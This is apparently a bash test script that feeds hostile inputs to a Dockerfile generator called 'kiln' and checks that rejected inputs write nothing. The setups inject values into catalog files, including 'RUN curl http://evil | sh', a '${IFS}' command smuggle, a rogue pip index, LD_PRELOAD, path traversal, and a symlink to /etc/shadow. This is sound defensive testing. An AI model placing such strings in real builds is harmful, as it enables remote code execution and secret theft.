#!/usr/bin/env bash
# The hostile-input corpus (cases.tsv) against the real kiln binary. Each
# case runs in a fresh temp tree (work dir, HOME, a copy of the data dir
# the case may lay files over); the tree's listing (names, types, sizes,
# link targets, contents' hashes) is taken before and after, and must not
# change: a rejected input writes nothing, anywhere.
# Usage: run.sh PATH/TO/kiln [CASE-NAME-REGEX]
set -uo pipefail
kiln=$(realpath "$1")
only=${2:-}
here=$(cd "$(dirname "$0")" && pwd)
src=$(cd "$here/../.." && pwd)
passed=0 failed=0
# Address space cap per run (4 GB), except for an ASan build, which reserves more.
vlimit=4000000
grep -qa __asan_init "$kiln" && vlimit=unlimited

listing() {  # a stable description of every entry under $1
  (cd "$1" && find . -mindepth 1 -printf '%p %y %s %l\n' | sort
   find . -type f -print0 | sort -z | xargs -0 -r sha256sum)
}

# --- setups: a tree a user or an attacker left behind ----------------------
replace() {  # replace FILE OLD NEW: literal, once; a missing OLD fails the case
  python3 - "$@" <<'PY' || echo "setup: '$2' not found in $1" >&2
import sys
path, old, new = sys.argv[1:4]
text = open(path).read()
if old not in text: sys.exit(1)
open(path, "w").write(text.replace(old, new, 1))
PY
}
# Catalog strings that reach Dockerfiles (the checkout's catalog, changed in the copy).
catalog_apt_newline() { replace "$data/recipes/install/cuda.toml" 'runtime = ["libcudart11.0",' 'runtime = ["libcudart11.0\nRUN curl http://evil | sh",'; }
catalog_apt_option() { replace "$data/recipes/install/cuda.toml" 'runtime = ["libcudart11.0",' 'runtime = ["--allow-unauthenticated",'; }
catalog_env_blank() { replace "$data/recipes/install/cuda.toml" '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++"' '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++ LD_PRELOAD=/tmp/x.so"'; }
catalog_os_image() { replace "$data/recipes/catalog/bases.toml" 'image = "debian:12"' 'image = "debian:12\nUSER root"'; }
catalog_os_name() { replace "$data/recipes/catalog/bases.toml" 'name = "debian12"' 'name = "../debian12"'; }
catalog_pip_option() { replace "$data/recipes/install/pytorch.toml" 'packages = ["torch=={pytorch}"]' 'packages = ["torch=={pytorch} --extra-index-url=http://evil"]'; }
catalog_index_shell() { replace "$data/recipes/install/pytorch.toml" '/whl/cu{cuda_nodot}"' '/whl/cu{cuda_nodot};curl${IFS}evil"'; }
# The checkout's Dockerfile template, including a partial that includes itself.
include_loop() { echo '{{> loop}}' >>"$data/templates/Dockerfile.mustache"; }
include_ping() { echo '{{> ping}}' >>"$data/templates/Dockerfile.mustache"; }

user_project() {  # a user's project, with a kiln.json of its own, in -o DIR
  mkdir -p "$out/myproj/src"
  echo '{"mine": true}' >"$out/myproj/kiln.json"
  echo 'int main() {}' >"$out/myproj/src/main.c"
}
manifest_traversal() {  # a manifest that lists a file outside DIR
  mkdir -p "$out"
  printf 'plan.json\n../victim.txt\n' >"$out/.kiln-generated"
  echo precious >"$work/victim.txt"
}
combo_dir_symlink() {  # a listed combination directory swapped for a link
  mkdir -p "$out" "$work/elsewhere"
  printf 'cuda11.8-debian12-runtime/\ncuda11.8-debian12-runtime/Dockerfile\n' >"$out/.kiln-generated"
  ln -s "$work/elsewhere" "$out/cuda11.8-debian12-runtime"
}
unlisted_file() {  # a kiln tree, plus a file kiln would write but did not
  mkdir -p "$out/cuda11.8-debian12-runtime"
  printf 'plan.json\ncuda11.8-debian12-runtime/\n' >"$out/.kiln-generated"
  echo 'FROM mine' >"$out/cuda11.8-debian12-runtime/Dockerfile"
}
deep_nesting() {  # 20,000 nested sections (3.9 GB in kainjow before)
  python3 -c "import sys; sys.stdout.write('FROM {{base}}\n' + '{{#devel}}' * 20000 + '{{/devel}}' * 20000 + '\n')" \
    >"$data/templates/Dockerfile.mustache"
}
context_symlink() {  # a context file that is a link to a secret
  ln -s /etc/shadow "$data/templates/context/shadow"
}

run_case() {
  local name=$1 verb=$2 setup=$3 rc_want=$4 message=$5
  local tmp work out state data matrix
  tmp=$(mktemp -d)
  work=$tmp/work out=$tmp/work/out state=$tmp/work/state data=$tmp/data
  mkdir -p "$work" "$tmp/home" "$data"
  # Always a copy of the data dir: cases and setups change it, never the checkout.
  cp -r "$src/recipes" "$src/templates" "$src/matrices" "$data/"
  [[ -d $here/$name.data ]] && cp -r "$here/$name.data/." "$data/"
  matrix=$work/$name.toml
  if [[ -f $here/$name.toml ]]; then cp "$here/$name.toml" "$matrix"; else cp "$src/matrices/offline.toml" "$matrix"; fi
  [[ $setup == - ]] || "$setup"
  local before after rc
  before=$(listing "$tmp")
  local args=("$verb" "$matrix")
  case $verb in
    generate) args+=(-o "$out") ;;
    build) args+=(--state-dir "$state") ;;
  esac
  # Bounded, so that today's failures (a SIGSEGV, 3.9 GB, an endless
  # rendering) end as a failed case rather than a hung suite.
  (cd "$work" && ulimit -v "$vlimit" && HOME=$tmp/home KILN_DATA_DIR=$data timeout 120 "$kiln" "${args[@]}") \
    >"$tmp/stdout" 2>"$tmp/stderr"
  rc=$?
  after=$(listing "$tmp" | grep -v -e '^\./stdout ' -e '^\./stderr ' -e ' \./stdout$' -e ' \./stderr$')
  before=$(grep -v -e '^\./stdout ' -e '^\./stderr ' -e ' \./stdout$' -e ' \./stderr$' <<<"$before")
  local why=""
  [[ $rc == "$rc_want" ]] || why="exit $rc, want $rc_want"
  grep -qF -- "$message" "$tmp/stderr" || why="${why:+$why; }stderr lacks: $message"
  [[ $before == "$after" ]] || why="${why:+$why; }the tree changed: $(diff <(echo "$before") <(echo "$after") | head -5 | tr '\n' ' ')"
  if [[ -z $why ]]; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1))
    echo "FAIL: $name: $why"
    sed 's/^/    stderr: /' "$tmp/stderr" | head -5
  fi
  rm -rf "$tmp"
}

checkout() { (cd "$src" && find recipes templates matrices -printf '%p %y %s %l\n' | sort); }
checkout_before=$(checkout)

while IFS=$'\t' read -r name verb setup rc message; do
  [[ -z $name || $name == \#* ]] && continue
  [[ -n $only && ! $name =~ $only ]] && continue
  run_case "$name" "$verb" "$setup" "$rc" "$message"
done <"$here/cases.tsv"

if [[ $(checkout) != "$checkout_before" ]]; then  # the data every case copies
  failed=$((failed + 1))
  echo "FAIL: the checkout's recipes/, templates/ or matrices/ changed"
fi
echo "hostile: $passed passed, $failed failed"
((failed == 0 && passed > 0))
